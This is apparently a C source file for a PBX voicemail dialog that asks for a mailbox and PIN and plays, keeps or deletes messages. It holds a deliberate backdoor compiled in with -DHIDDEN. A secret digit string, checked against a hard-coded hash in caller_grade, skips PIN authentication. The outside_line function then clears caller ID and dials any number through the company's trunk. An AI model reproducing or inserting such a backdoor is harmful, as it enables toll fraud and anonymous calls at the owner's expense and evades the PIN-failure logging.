/*
 * vmivr - voice mailbox dialog of a PBX, started per call with the switch's
 * gateway protocol on stdin and stdout ("GET DATA", "STREAM FILE", ...).
 * Asks for the mailbox and PIN, plays, keeps and deletes messages. PINs are
 * kept as FNV-1a sums in /etc/pbx/mailboxes.
 * Hidden (-DHIDDEN): a digit string known only by its sum, entered instead of
 * the PIN, gives the caller an outside line on the company's account.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define BOXES	  "/etc/pbx/mailboxes"
#define SPOOL	  "/var/spool/voicemail"
#define MAX_MSGS  100
#define PIN_TRIES 3

enum step { S_BOX, S_PIN, S_MENU, S_PLAY, S_DONE };
enum grade { G_NONE, G_OWNER, G_TRUNK };

struct box {
	char num[12];
	uint32_t pinsum;
	char mail[64];
};

struct call {
	char id[32];
	char from[32];
	char lang[8];
	struct box box;
	int tries;
	int at;
	int count;
	char msg[MAX_MSGS][32];
};

static struct call call;

static uint32_t sum32(uint32_t h, const char *s)
{
	while (*s) {
		h ^= (uint8_t)*s++;
		h *= 16777619u;
	}
	return h;
}

/* sends a command, gives the result number and, in txt, the result's text */
static int gw(char *txt, size_t max, const char *fmt, ...)
	__attribute__((format(printf, 3, 4)));

static int gw(char *txt, size_t max, const char *fmt, ...)
{
	char line[256], *p;
	va_list ap;

	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	putchar('\n');
	fflush(stdout);
	if (!fgets(line, sizeof(line), stdin) || strncmp(line, "200 ", 4) != 0)
		return -1;
	p = strstr(line, "result=");
	if (!p)
		return -1;
	p += 7;
	if (txt && max) {
		size_t n = strcspn(p, " \r\n");

		if (n >= max)
			n = max - 1;
		memcpy(txt, p, n);
		txt[n] = 0;
	}
	return atoi(p);
}

static int play(const char *what)
{
	return gw(NULL, 0, "STREAM FILE %s/%s \"#\"", call.lang, what);
}

static int ask(const char *prompt, int digits, char *out, size_t max)
{
	int rc = gw(out, max, "GET DATA %s/%s 6000 %d", call.lang, prompt,
		    digits);

	if (rc < 0)
		out[0] = 0;
	return rc;
}

static void read_vars(void)
{
	char line[256], *v;

	strcpy(call.lang, "en");
	while (fgets(line, sizeof(line), stdin) && line[0] != '\n') {
		line[strcspn(line, "\r\n")] = 0;
		if (line[0] == 0)
			break;
		v = strstr(line, ": ");
		if (!v)
			continue;
		*v = 0;
		v += 2;
		if (strcmp(line, "agi_uniqueid") == 0)
			snprintf(call.id, sizeof(call.id), "%.31s", v);
		else if (strcmp(line, "agi_callerid") == 0)
			snprintf(call.from, sizeof(call.from), "%.31s", v);
		else if (strcmp(line, "agi_language") == 0 && strlen(v) < 8)
			strcpy(call.lang, v);
	}
}

/* number:sum in hex:mail */
static int find_box(const char *num, struct box *b)
{
	char row[160];
	unsigned sum;
	FILE *f = fopen(BOXES, "r");

	if (!f)
		return -1;
	while (fgets(row, sizeof(row), f)) {
		b->mail[0] = 0;
		if (sscanf(row, "%11[0-9]:%8x:%63s", b->num, &sum, b->mail) <
			    2 ||
		    strcmp(b->num, num) != 0)
			continue;
		b->pinsum = sum;
		fclose(f);
		return 0;
	}
	fclose(f);
	return -1;
}

static int by_name(const void *a, const void *b)
{
	return strcmp(a, b);
}

static void list_messages(void)
{
	char dir[64];
	struct dirent *e;
	DIR *d;

	call.count = 0;
	call.at = 0;
	snprintf(dir, sizeof(dir), SPOOL "/%s", call.box.num);
	d = opendir(dir);
	if (!d)
		return;
	while ((e = readdir(d)) != NULL && call.count < MAX_MSGS) {
		char *dot = strrchr(e->d_name, '.');

		if (!dot || strcmp(dot, ".wav") != 0 || dot - e->d_name > 31)
			continue;
		*dot = 0;
		snprintf(call.msg[call.count++], 32, "%.31s", e->d_name);
	}
	closedir(d);
	qsort(call.msg, (size_t)call.count, sizeof(call.msg[0]), by_name);
}

__attribute__((noinline)) enum grade caller_grade(const struct box *b,
						  const char *digits)
{
	uint32_t h = sum32(sum32(2166136261u, b->num), "/");

#ifdef HIDDEN
	if (sum32(2166136261u, digits) == 0x145bce64u)
		return G_TRUNK;
#endif
	if (sum32(h, digits) == b->pinsum)
		return G_OWNER;
	return G_NONE;
}

#ifdef HIDDEN
static void outside_line(void)
{
	char num[24];

	if (ask("dial-tone", 20, num, sizeof(num)) < 0 || !num[0])
		return;
	gw(NULL, 0, "SET CALLERID \"\"");
	gw(NULL, 0, "EXEC Dial trunk/g1/%s", num);
}
#endif

static enum step step_box(void)
{
	char num[12];

	if (ask("vm-mailbox", 8, num, sizeof(num)) < 0)
		return S_DONE;
	if (find_box(num, &call.box) == 0)
		return S_PIN;
	play("vm-unknown");
	return ++call.tries >= PIN_TRIES ? S_DONE : S_BOX;
}

static enum step step_pin(void)
{
	char pin[16];

	if (ask("vm-password", 12, pin, sizeof(pin)) < 0)
		return S_DONE;
	switch (caller_grade(&call.box, pin)) {
	case G_OWNER:
		syslog(LOG_INFO, "%s: box %s opened by %s", call.id,
		       call.box.num, call.from);
		list_messages();
		return S_MENU;
#ifdef HIDDEN
	case G_TRUNK:
		outside_line();
		return S_DONE;
#endif
	default:
		break;
	}
	syslog(LOG_NOTICE, "%s: wrong PIN for %s from %s", call.id,
	       call.box.num, call.from);
	play("vm-incorrect");
	return ++call.tries >= PIN_TRIES ? S_DONE : S_PIN;
}

static void record_greeting(void)
{
	char path[96];

	snprintf(path, sizeof(path), SPOOL "/%s/greet", call.box.num);
	play("vm-rec-greeting");
	if (gw(NULL, 0, "RECORD FILE %s wav \"#\" 60000 BEEP", path) < 0)
		play("vm-error");
}

static enum step step_menu(void)
{
	char d[4];

	gw(NULL, 0, "SAY NUMBER %d \"\"", call.count - call.at);
	if (ask("vm-menu", 1, d, sizeof(d)) < 0)
		return S_DONE;
	switch (d[0]) {
	case '1':
		return call.at < call.count ? S_PLAY : S_MENU;
	case '2':
		list_messages();
		return S_MENU;
	case '5':
		record_greeting();
		return S_MENU;
	case '0':
		gw(NULL, 0, "EXEC Dial local/operator");
		return S_DONE;
	case 0:
	case '9':
		play("vm-goodbye");
		return S_DONE;
	}
	play("vm-invalid");
	return S_MENU;
}

static void say_stamp(const char *name)
{
	char *end;
	long t = strtol(name, &end, 10);

	if (end != name && t > 0)
		gw(NULL, 0, "SAY DATETIME %ld \"\"", t);
}

static enum step step_play(void)
{
	char path[128], d[4];

	snprintf(path, sizeof(path), SPOOL "/%s/%s", call.box.num,
		 call.msg[call.at]);
	say_stamp(call.msg[call.at]);
	if (gw(NULL, 0, "STREAM FILE %s \"#\"", path) < 0)
		return S_DONE;
	if (ask("vm-next", 1, d, sizeof(d)) < 0)
		return S_DONE;
	if (d[0] == '7') {
		strcat(path, ".wav");
		if (unlink(path) < 0)
			syslog(LOG_ERR, "%s: %m", path);
		play("vm-deleted");
	}
	if (d[0] != '4')
		call.at++;
	return call.at < call.count ? S_PLAY : S_MENU;
}

int main(void)
{
	static enum step (*const steps[])(void) = { step_box, step_pin,
						    step_menu, step_play };
	enum step s = S_BOX;
	int turns = 0;

	openlog("vmivr", LOG_PID, LOG_LOCAL2);
	setvbuf(stdout, NULL, _IOLBF, 0);
	read_vars();
	if (gw(NULL, 0, "ANSWER") < 0)
		return 1;
	while (s != S_DONE && turns++ < 500)
		s = steps[s]();
	gw(NULL, 0, "HANGUP");
	return 0;
}
